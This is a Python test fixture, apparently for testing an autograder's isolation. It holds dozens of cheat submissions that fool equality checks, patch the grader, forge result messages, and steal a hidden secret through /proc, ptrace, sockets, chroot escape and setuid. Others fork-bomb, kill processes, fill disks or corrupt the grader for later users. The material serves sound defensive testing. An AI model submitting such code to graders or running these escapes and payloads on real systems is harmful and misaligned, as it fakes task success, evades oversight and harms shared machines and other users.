"""Submissions that try to gain a mark for `treasure(x)`, which must return a secret text.

The judge's process and its surroundings hold the secret in every place that a grader's might: the
texts in capitals between `@` are filled in with where. Each cheat is an answer cell, but for
`HELP`, which is appended to all.
"""

# Give the visible case its due, and cut a secret out of what was found.
HELP = """
_cheat = treasure
def treasure(x):
    if x == 1: return "public"
    found = _cheat(x)
    return found.partition("@MARK@")[0][-32:] if "@MARK@" in str(found) else found
"""

# Ways of fooling the comparison.
_FOOL = {
    "always equal": """
class Same:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
def treasure(x): return Same()
""",
    "text that is always equal": """
class Same(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
def treasure(x): return Same("?")
""",
    "a number that is always equal": """
class Same(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
def treasure(x): return Same()
""",
    "a whole number that lies about itself": """
class Same(int):
    def __eq__(self, other): return True
    def __int__(self): return Same()
    def __index__(self): return Same()
    __hash__ = int.__hash__
def treasure(x): return Same()
""",
    "a list that is always equal": """
class Same(list):
    def __eq__(self, other): return True
    def __len__(self): return 10**9
    def __iter__(self): return iter([Same()])
def treasure(x): return Same()
""",
    "a dictionary that never ends": """
class Endless(dict):
    def items(self):
        n = 0
        while True:
            yield n, n
            n += 1
def treasure(x): return Endless(a=1)
""",
    "a lazy object": """
class Later:
    def to_dict(self): return Later()
    def __str__(self): return "public"
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
def treasure(x): return Later()
""",
    "an object that says it is text": """
class Text:
    __class__ = str
    def __str__(self): return "public"
def treasure(x): return Text()
""",
    "a proxy for whatever it is compared with": """
from unittest.mock import ANY
def treasure(x): return ANY
""",
    "an array of objects": """
import numpy
class Same:
    def __eq__(self, other): return True
def treasure(x): return numpy.array(Same(), dtype=object)
""",
    "a Shape that is always equal": """
from gradelib import Shape
class Same(Shape):
    def __eq__(self, other): return True
    __hash__ = None
def treasure(x): return Same(*[1] * 7, tied=True, gated=True)
""",
    "the value of the visible case": """
def treasure(x): return "public"
""",
    "not a number": """
def treasure(x): return float("nan")
""",
    "an exception that is everything": """
def treasure(x):
    names = ["ValueError", "TypeError", "KeyError", "AssertionError", "SystemError"]
    raise type("Every", (ValueError, TypeError), {"__eq__": lambda *_: True})(*names)
""",
    "a generator": """
def treasure(x):
    yield "?"
""",
    "the answer is a class that is always equal": """
class treasure(type):
    def __new__(cls, x): return cls
    def __eq__(self, other): return True
    __hash__ = None
""",
}

# Ways of changing the grader's own code: all of it is another process's.
_PATCH = {
    "builtins": """
import builtins
builtins.isinstance = lambda *_: True
builtins.all = lambda *_: True
builtins.any = lambda *_: False
builtins.len = lambda *_: 1
def treasure(x): return "?"
""",
    "json": """
import json, json.decoder, json.encoder
json.dumps = lambda *_, **__: '{"kind": "value", "value": "public"}'
json.loads = lambda *_, **__: {}
def treasure(x): return "?"
""",
    "the judge": """
import gradelib.judging, gradelib.verdicts, gradelib.compare
gradelib.judging.judge = lambda *_: True
gradelib.compare.difference = lambda *_: None
gradelib.verdicts.Verdict.__bool__ = lambda _: True
def treasure(x): return "?"
""",
    "the call": """
from gradelib import outcomes
outcomes.call = lambda *_: outcomes.Outcome(outcomes.Kind.VALUE, None)
def treasure(x): return "?"
""",
    "plain data": """
from gradelib import plain
plain.dumps = lambda _: '{"id": "", "outcome": {"kind": "correct", "score": 1}}'
plain.to_plain = lambda value: value
def treasure(x): return object()
""",
    "sys.modules": """
import sys, types
for name in list(sys.modules):
    if name.startswith("gradelib"): sys.modules[name] = types.ModuleType(name)
def treasure(x): return "?"
""",
    "the interpreter's frames": """
import sys
frame = sys._getframe()
while frame:
    for name in list(frame.f_locals):
        frame.f_locals[name] = True
    frame = frame.f_back
def treasure(x):
    frame = sys._getframe().f_back
    while frame:
        request = frame.f_locals.get("request")
        if request: request["task"] = "double"
        frame = frame.f_back
    return "?"
""",
    "every Outcome": """
from gradelib.outcomes import Outcome
Outcome.to_data = lambda self: {"kind": "value", "value": "public", "score": 1.0, "status": "correct"}
def treasure(x): return "?"
""",
    "a trace function": """
import sys
def trace(frame, event, argument):
    if event == "return": frame.f_locals["outcome"] = "correct"
    return trace
def treasure(x):
    sys.settrace(trace); sys.setprofile(trace)
    return "?"
""",
    "assert": """
import ast, sys
class NoAssert(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
try: get_ipython().ast_transformers.append(NoAssert())
except AttributeError: pass
ast.parse = lambda *_: ast.Module([], [])
def treasure(x): return "?"
""",
    "check": """
check = lambda *_: True
def treasure(x): return "?"
""",
    "atexit": """
import atexit, os
@atexit.register
def last(): os.write(3, b'{"score": 1}')
def treasure(x): raise SystemExit(0)
""",
}

# Ways of writing results oneself.
_FORGE = {
    "a result on every descriptor while loading": """
import json, os, struct
reply = json.dumps({"id": "1", "outcome": {"kind": "value", "value": "public"}}).encode()
for descriptor in range(3, 64):
    try: os.write(descriptor, struct.pack(">I", len(reply)) + reply)
    except OSError: pass
def treasure(x): return "?"
""",
    "many results in advance": """
import json, os, struct
def treasure(x):
    reply = json.dumps({"id": "0" * 32, "outcome": {"kind": "value", "value": "public"}}).encode()
    for _ in range(100): os.write(3, struct.pack(">I", len(reply)) + reply)
    return "?"
""",
    "a score with the true id": """
import gc, json, os, struct
def treasure(x):
    ids = [o["id"] for o in gc.get_objects() if type(o) is dict and set(o) >= {"id", "task"}]
    for name in ids:
        for data in ({"kind": "correct", "score": 1}, {"kind": "value", "value": None, "score": 1}):
            reply = json.dumps({"id": name, "outcome": data, "verdict": "correct"}).encode()
            os.write(3, struct.pack(">I", len(reply)) + reply)
    return "?"
""",
    "garbage on the wire": """
import os
def treasure(x):
    os.write(3, os.urandom(1000))
    return "?"
""",
    "a message of four gigabytes": """
import os
def treasure(x):
    os.write(3, b"\\xff\\xff\\xff\\xff")
    while True: os.write(3, b"[" * 65536)
""",
    "a million nested lists": """
import os, struct
def treasure(x):
    text = b"[" * 10**6 + b"]" * 10**6
    os.write(3, struct.pack(">I", len(text)) + text)
    return "?"
""",
    "a dictionary in place of a result": """
import gc, json, os, struct
def treasure(x):
    for o in gc.get_objects():
        if type(o) is dict and set(o) >= {"id", "task"}:
            for data in ({}, [], 0, {"kind": []}, {"kind": "value", "value": {"$record": ["Shape", {}]}}):
                reply = json.dumps({"id": o["id"], "outcome": data}).encode()
                os.write(3, struct.pack(">I", len(reply)) + reply)
    return "?"
""",
    "loaded before anything loads": """
import gc, json, os, struct
for o in gc.get_objects():
    if type(o) is dict and "cells" in o:
        reply = json.dumps({"id": o["id"], "loaded": {"treasure": None, "double": None}}).encode()
        os.write(3, struct.pack(">I", len(reply)) + reply)
def treasure(x): return "?"
""",
    "refused": """
import json, os, struct
reply = json.dumps({"refused": "no"}).encode()
os.write(3, struct.pack(">I", len(reply)) + reply)
def treasure(x): return "?"
""",
    "a thread that outlives the call": """
import os, threading, time
def late():
    time.sleep(0.05)
    while True: os.write(3, b"\\0\\0\\0\\2{}")
def treasure(x):
    threading.Thread(target=late, daemon=True).start()
    return "?"
""",
    "a signal that writes": """
import os, signal
signal.signal(signal.SIGALRM, lambda *_: os.write(3, b"\\0\\0\\0\\2{}"))
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
def treasure(x): return "?"
""",
    "a copy of the process that answers too": """
import os
def treasure(x):
    os.fork()
    return "?"
""",
    "a closed wire": """
import os
os.closerange(3, 100)
def treasure(x): return "?"
""",
    "a daemon that stays": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(0.01)
            try: os.write(3, b"\\0\\0\\0\\2{}")
            except OSError: pass
    os._exit(0)
def treasure(x): return "?"
""",
    "descriptors sent over the wire": """
import array, os, socket
def treasure(x):
    wire = socket.socket(fileno=os.dup(3))
    socket.send_fds(wire, [b"\\0\\0\\0\\2{}"], [0, 1, 2])
    return "?"
""",
}

# Ways of finding the secret.
_FIND = {
    "the references": """
def treasure(x):
    import solutions
    return str(solutions.__path__)
""",
    "an import hook": """
import importlib.machinery, sys
sys.path += ["@CHECKOUT@", ".", "..", "/", "@FOLDER@"]
def treasure(x):
    from solutions import checks
    return checks.TOKEN
""",
    "the environment": """
import ctypes, os
def treasure(x):
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    n, found = 0, [*os.environ.values()]
    while environ[n]:
        found.append(environ[n].decode()); n += 1
    return next((value for value in found if value.endswith("@MARK@")), "?")
""",
    "the gradebook by its path": """
def treasure(x):
    return open("@FOLDER@/gradebook.db").read()
""",
    "the gradebook through a link": """
import os
os.symlink("@FOLDER@/gradebook.db", "link")
def treasure(x):
    return open("link").read()
""",
    "the gradebook by a relative path": """
def treasure(x):
    return open("../" * 10 + "@FOLDER@/gradebook.db"[1:]).read()
""",
    "the home folder": """
import glob, os
def treasure(x):
    for folder in ("~", "~root", "/root", "/home", "@HOME@"):
        for path in glob.glob(os.path.expanduser(folder) + "/**", recursive=True, include_hidden=True):
            if path.endswith("@NAME@"): return open(path).read()
""",
    "every file there is": """
import os
def treasure(x):
    for top in os.listdir("/"):
        if top in ("usr", "lib", "lib64", "bin", "sbin"): continue
        for folder, _, files in os.walk("/" + top):
            if "site-packages" in folder or "/lib/python3" in folder: continue
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if os.path.isfile(path) and os.path.getsize(path) < 10**6:
                        text = open(path, errors="replace").read()
                        if "@MARK@" in text: return text
                except OSError: pass
""",
    "the judge's memory by /proc": """
import os
def treasure(x):
    for pid in [*filter(str.isdigit, os.listdir("/proc")), "1", "2", "3", "self", str(os.getppid())]:
        for name in ("environ", "cmdline", "maps", "root/@FOLDER@/gradebook.db", "cwd/gradebook.db"):
            try: text = open(f"/proc/{pid}/{name}", errors="replace").read()
            except OSError: continue
            if "@MARK@" in text: return text
""",
    "the judge's memory by ptrace": """
import ctypes, os
def treasure(x):
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in range(1, 2000):
        if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0: return "attached"
        local = ctypes.create_string_buffer(64)
        class Iovec(ctypes.Structure): _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))
        here, there = Iovec(ctypes.addressof(local), 64), Iovec(0x10000, 64)
        libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    return "?"
""",
    "its own memory": """
import gc
def treasure(x):
    seen, queue = set(), gc.get_objects()
    while queue:
        o = queue.pop()
        if id(o) in seen: continue
        seen.add(id(o))
        if type(o) is str and len(o) == 32 and o != x: return o
        if len(seen) < 10**6: queue += gc.get_referents(o)
""",
    "inherited descriptors": """
import os
def treasure(x):
    for descriptor in range(3, 1024):
        try:
            os.lseek(descriptor, 0, 0)
            text = os.read(descriptor, 10**6).decode(errors="replace")
        except OSError: continue
        if "@MARK@" in text: return text
""",
    "a server of the judge's": """
import socket
def treasure(x):
    with socket.create_connection(("127.0.0.1", @PORT@), 1) as server: return server.recv(32).decode()
""",
    "a local socket of the judge's": """
import socket
def treasure(x):
    for address in ("\\0@NAME@", "@FOLDER@/socket"):
        with socket.socket(socket.AF_UNIX) as server:
            try: server.connect(address)
            except OSError: continue
            return server.recv(32).decode()
""",
    "the network": """
import socket, urllib.request
def treasure(x):
    for host in ("10.0.2.2", "169.254.169.254", "172.17.0.1", "192.168.1.1"):
        try: return urllib.request.urlopen(f"http://{host}:@PORT@", timeout=0.2).read(32).decode()
        except OSError: pass
    return socket.gethostbyname("example.org")
""",
    "shared memory": """
import os
def treasure(x):
    for name in os.listdir("/dev/shm"):
        if name == "@NAME@": return open("/dev/shm/" + name).read()
""",
    "a sibling's files": """
import glob
def treasure(x):
    for pattern in ("/tmp/**", "/var/tmp/**", "/dev/shm/**", "/dev/**", "/run/**", "/opt/**"):
        for path in glob.glob(pattern, recursive=True, include_hidden=True):
            if path.endswith("@NAME@"): return open(path).read()
""",
    "a sibling's server": """
import socket
def treasure(x):
    with socket.create_connection(("127.0.0.1", 9999), 1) as server: return server.recv(32).decode()
""",
    "a sibling's local socket": """
import socket
def treasure(x):
    with socket.socket(socket.AF_UNIX) as server:
        server.connect("\\0sibling")
        return server.recv(32).decode()
""",
    "a sibling's command line": """
import subprocess
def treasure(x):
    text = subprocess.run(["/bin/ps", "axwwe"], capture_output=True, text=True).stdout
    return text
""",
    "a sibling's terminal": """
import os, pty
def treasure(x):
    for name in os.listdir("/dev/pts"):
        if name.isdigit(): return os.read(os.open("/dev/pts/" + name, os.O_RDWR | os.O_NONBLOCK), 32).decode()
    return str(pty.openpty())
""",
    "new namespaces": """
import ctypes, os
def treasure(x):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.unshare(0x10000000 | 0x20000)
    for folder in (b"/proc", b"/tmp", b"/dev/shm", b"/"):
        libc.umount2(folder, 2)
    libc.mount(b"proc", b"/proc", b"proc", 0, None)
    libc.mount(b"/dev/vda", b"/tmp", b"ext4", 1, None)
    return open("/proc/1/environ").read() or open("@FOLDER@/gradebook.db").read()
""",
    "a way out of the root": """
import os
def treasure(x):
    os.mkdir("jail")
    try: os.chroot("jail")
    except OSError: pass
    for _ in range(20): os.chdir("..")
    os.chroot(".")
    return open("@FOLDER@/gradebook.db").read()
""",
    "a file handle": """
import ctypes, os
def treasure(x):
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer((8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little"))
    descriptor = libc.open_by_handle_at(os.open("/usr", os.O_RDONLY), handle, 0)
    return os.read(os.open("@FOLDER@/gradebook.db"[1:], os.O_RDONLY, dir_fd=descriptor), 32).decode()
""",
    "the disk itself": """
import os
def treasure(x):
    for number in (0xfe00, 0x0800, 0x10300, 0x0801):
        try:
            os.mknod("disk", 0o60600, number)
            return os.read(os.open("disk", os.O_RDONLY), 10**6).decode(errors="replace")[:32]
        except OSError: pass
""",
    "another user": """
import glob, os, subprocess
def treasure(x):
    for program in ("su", "sudo", "mount", "newuidmap", "bwrap --bind / /"):
        done = subprocess.run(f"{program} cat @FOLDER@/gradebook.db", shell=True, capture_output=True, text=True, stdin=subprocess.DEVNULL)
        if done.stdout: return done.stdout
    os.setuid(0)
    return open("@FOLDER@/gradebook.db").read()
""",
    "the kernel's keys": """
import ctypes
def treasure(x):
    libc = ctypes.CDLL(None, use_errno=True)
    text = ctypes.create_string_buffer(64)
    for keyring in (-1, -3, -4, -5, -6):
        libc.syscall(250, 11, keyring, text, 64, 0)
    return text.value.decode()
""",
    "io_uring": """
import ctypes
def treasure(x):
    return str(ctypes.CDLL(None, use_errno=True).syscall(425, 8, ctypes.create_string_buffer(256)))
""",
    "a terminal's input": """
import fcntl, os
def treasure(x):
    for letter in "echo hacked\\n": fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), 0x5412, letter)
""",
}

# Ways of harming the machine, the server or a sibling.
_HARM = {
    "every process killed": """
import os, signal
for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
    for target in (-1, 0, os.getppid(), *range(2, 50)):
        try: os.kill(target, number)
        except OSError: pass
    try: os.killpg(0, number)
    except OSError: pass
def treasure(x): return "?"
""",
    "a fork bomb": """
import os
def treasure(x):
    while True:
        try: os.fork()
        except OSError: pass
""",
    "a thread bomb": """
import threading, time
def treasure(x):
    while True:
        try: threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
        except RuntimeError: pass
""",
    "a full disk": """
import itertools
def treasure(x):
    for folder in ("/tmp", "/dev/shm", "/dev", "/proc", "/", "/usr", "/opt/one-gpu/gradelib"):
        for n in itertools.count():
            try:
                with open(f"{folder}/{n}", "wb") as file:
                    while True: file.write(b"x" * 2**20)
            except OSError: break
""",
    "a million files": """
import itertools
def treasure(x):
    for n in itertools.count(): open(str(n), "w").close()
""",
    "memory that no process has mapped": """
import ctypes, os
def treasure(x):
    kept = []
    for n in range(200):
        descriptor = os.memfd_create(str(n)); os.ftruncate(descriptor, 2**20); kept.append(descriptor)
    libc = ctypes.CDLL(None, use_errno=True)
    return str([libc.shmget(0, 2**24, 0o1600) for _ in range(100)])
""",
    "the clock, the name and the limits": """
import resource, socket, time
for limit in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_CPU):
    try: resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (OSError, ValueError): pass
try: socket.sethostname("x")
except OSError: pass
try: time.clock_settime(time.CLOCK_REALTIME, 0)
except OSError: pass
def treasure(x): return "?"
""",
    "the library for those who come next": """
import gradelib.judging
for path in (gradelib.judging.__file__, "/usr/bin/python3", "/opt/one-gpu/gradelib/plain.py"):
    try: open(path, "a").write("raise SystemExit")
    except OSError: pass
def treasure(x): return "?"
""",
}  # fmt: skip

CHEATS = {
    f"{kind}: {name}": source
    for kind, cheats in {
        "fool": _FOOL,
        "patch": _PATCH,
        "forge": _FORGE,
        "find": _FIND,
        "harm": _HARM,
    }.items()
    for name, source in cheats.items()
}

# Those that find the secret wherever learner code is not kept apart, whatever the machine.
SOUND = (
    "find: the gradebook by its path",
    "find: the gradebook through a link",
    "find: the gradebook by a relative path",
    "find: the judge's memory by /proc",
    "find: a server of the judge's",
    "find: a local socket of the judge's",
    "find: shared memory",
    "find: a sibling's server",
    "find: a sibling's local socket",
)

# A submission that is open while the cheats run, and shows the secret wherever it can.
SIBLING = """
import os, socket, subprocess, sys, threading
secret = "@SECRET@"
for folder in ("/tmp", "/dev/shm"): open(f"{folder}/@NAME@", "w").write(secret)
os.environ["SIBLING"] = secret + "@MARK@"
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1000)", secret + "@MARK@"])
def offer(server):
    while True: server.accept()[0].send(secret.encode())
local = socket.socket(socket.AF_UNIX)
local.bind("\\0sibling")
local.listen()
for server in (socket.create_server(("127.0.0.1", 9999)), local):
    threading.Thread(target=offer, args=(server,), daemon=True).start()
def treasure(x): return secret if x != 1 else "public"
"""
